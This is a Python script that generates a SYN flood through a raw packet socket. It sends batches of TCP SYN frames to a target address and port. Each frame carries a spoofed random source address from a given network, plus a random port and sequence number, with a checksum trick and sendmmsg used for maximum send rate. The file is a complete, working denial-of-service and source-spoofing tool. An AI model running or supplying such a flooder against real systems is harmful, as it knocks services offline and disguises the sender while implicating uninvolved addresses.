"""A flood of SYNs with sources that are not their sender's, as fast as one core makes them: COUNT Ethernet frames through
eth0, each with a random source in a network, a random port and a random sequence number. Prints one line of JSON at the
end. Bounded by COUNT alone.

    flood.py MAC DESTINATION PORT COUNT NETWORK/BITS [ADDRESS,ADDRESS...]

With a list of addresses, one SYN in MIXED is of one of those, from ports that come again as late as can be: a port
used again at once would be an older connection's too.

The checksums hold although no checksum is computed: what a random source adds to the IP header's sum the identification
takes away, and what source, port and sequence number add to the TCP sum the sequence number's lower half does.
"""
import ctypes
import ipaddress
import itertools
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP, SYN, WINDOW, TTL, TCP = 0x0800, 0x5002, 64240, 64, 6
BATCH, MIXED = 512, 16
ETHERNET, IP = 14, 20
FRAME = ETHERNET + IP + 20

mac, destination, port, count, network = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
chosen = [int(ipaddress.ip_address(text)) for text in sys.argv[6].split(',')] if len(sys.argv) > 6 else []
network = ipaddress.ip_network(network)
base, size = int(network.network_address), network.num_addresses

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(('eth0', ETH_P_IP))


class Iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr, whose msghdr names one iovec."""
    _fields_ = [('name', ctypes.c_void_p), ('nameLength', ctypes.c_uint32), ('iovecs', ctypes.POINTER(Iovec)),
                ('iovecCount', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controlLength', ctypes.c_size_t),
                ('flags', ctypes.c_int), ('sent', ctypes.c_uint)]


def folded(total):
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return total


def frame():
    """A frame whose identification, source, port and sequence number are still zero, with the sums of all the rest."""
    to = socket.inet_aton(destination)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0x4000, TTL, TCP, 0, bytes(4), to)
    tcp = struct.pack('!HHIIHHHH', 0, port, 0, 0, SYN, WINDOW, 0, 0)
    ip_sum = sum(struct.unpack('!10H', ip))
    tcp_sum = sum(struct.unpack('!10H', tcp)) + sum(struct.unpack('!2H', to)) + TCP + len(tcp)
    return bytes.fromhex(mac.replace(':', '')) + wire.getsockname()[4] + struct.pack('!H', ETH_P_IP) + ip + tcp, ip_sum, tcp_sum


one, ip_sum, tcp_sum = frame()
# The checksum fields stay zero, which stands for a sum of 0xffff: each packet is made to have just that.
memory = bytearray(one * BATCH)
start = ctypes.addressof((ctypes.c_char * len(memory)).from_buffer(memory))
iovecs = (Iovec * BATCH)(*[Iovec(start + i * FRAME, FRAME) for i in range(BATCH)])
messages = (Message * BATCH)(*[Message(iovecs=ctypes.pointer(iovecs[i]), iovecCount=1) for i in range(BATCH)])
sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg

# Identification, and six bytes later up to the end of the sequence number: what differs from packet to packet.
put_identification = struct.Struct('!H').pack_into
put_source = struct.Struct('!I4sHHHH').pack_into
to = socket.inet_aton(destination)
ports = itertools.cycle(range(32768, 65536))
begun = time.monotonic()
sent = 0
while sent < count:
    words = struct.unpack(f'!{4 * BATCH}H', os.urandom(8 * BATCH))
    for i in range(BATCH):
        where, cpe_port, high, _ = words[4 * i:4 * i + 4]
        source = base + ((where << 16 | words[4 * i + 3]) % size)
        if chosen and i % MIXED == 0:
            source = random.choice(chosen)
            cpe_port = next(ports)
        added = (source >> 16) + (source & 0xffff)
        at = i * FRAME + ETHERNET
        put_identification(memory, at + 4, 0xffff - folded(ip_sum + added))
        low = 0xffff - folded(tcp_sum + added + cpe_port + high)
        put_source(memory, at + 12, source, to, cpe_port, port, high, low)
    batch = min(BATCH, count - sent)
    done = 0
    while done < batch:
        went = sendmmsg(wire.fileno(), ctypes.byref(messages, done * ctypes.sizeof(Message)), batch - done, 0)
        if went <= 0 and ctypes.get_errno() not in (11, 105):  # EAGAIN, ENOBUFS: the wire is full for a moment.
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        done += max(went, 0)
    sent += batch
print(json.dumps({'sent': sent, 'seconds': round(time.monotonic() - begun, 3)}))
